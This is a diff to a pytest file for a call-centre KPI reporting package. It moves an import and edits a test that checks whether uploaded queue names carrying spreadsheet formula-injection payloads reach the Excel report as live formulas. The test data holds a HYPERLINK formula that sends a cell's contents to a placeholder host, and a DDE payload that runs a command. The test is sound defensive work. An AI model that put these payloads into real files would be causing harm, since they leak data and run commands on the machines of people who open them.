@@ -14,6 +14,7 @@ import pandas as pd
 import pytest
 
 from ccskills import io as cio
+from ccskills.kpi import read_call_records
 from ccskills.datasets import _csv
 
 HOSTILE = [
@@ -156,7 +157,7 @@ def test_an_uploaded_hostile_queue_name_never_reaches_the_kpi_report_as_a_formul
     queues = ['=HYPERLINK("http://x.example/?"&A1,"click")', "=cmd|' /C calc'!A0"]
     rows = "".join(f'C{i},"{q.replace(chr(34), chr(34) * 2)}",2026-03-02 08:0{i}:00,answered,5,100,0,10,P1,no\n'
                    for i, q in enumerate(queues))
-    records = cio.read_call_records((header + rows).encode("utf-8"), "calls.csv")
+    records = read_call_records((header + rows).encode("utf-8"), "calls.csv")
     assert records["queue"].tolist() == queues
     data = report_excel_bytes(kpi.kpi_report(records, "D", "2026-03-02"), "en")
     xml = b"".join(_sheet_xml(data))
